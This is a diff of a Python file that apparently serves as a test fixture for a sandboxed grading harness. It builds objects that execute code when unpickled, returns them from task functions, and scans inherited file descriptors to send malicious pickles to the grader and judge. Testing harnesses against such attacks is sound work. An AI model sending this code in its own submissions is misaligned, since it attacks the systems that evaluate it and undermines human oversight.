@@ -1,6 +1,7 @@
-"""Returns objects that run code when they are unpickled, and sends the examiner a pickle."""
+"""Returns objects that run code when they are unpickled, and sends the grader and the judge pickles."""
 
-expected = {"ex1": 0, "ex2": 0}
+expected = {"ex1": 0, "ex2": 0, "ex3": 0}
+harms_itself = True
 
 # %% ex1
 import dill, os, pickle
@@ -12,18 +13,20 @@ class Bomb:
 def square(n): return pickle.dumps(Bomb())
 
 # %% ex2
-import msgpack, socket, stat, struct
+def total(numbers): return Bomb()
 
-def channels():
+# %% ex3
+import os, socket, stat, struct
+
+def grader():
     for number in range(3, 256):
         try:
             if stat.S_ISSOCK(os.fstat(number).st_mode):
-                yield socket.socket(fileno=os.dup(number))
+                return socket.socket(fileno=os.dup(number))
         except OSError:
             pass
 
-def total(numbers):
-    each = list(channels())[-1]
-    for data in (dill.dumps(Bomb()), msgpack.packb(msgpack.ExtType(99, pickle.dumps(Bomb())))):
-        each.sendall(struct.pack("!I", len(data)) + data)
-    return Bomb()
+def send(data):
+    grader().sendall(struct.pack("!I", len(data)) + data)
+
+def mixed(n): send(dill.dumps(Bomb()))
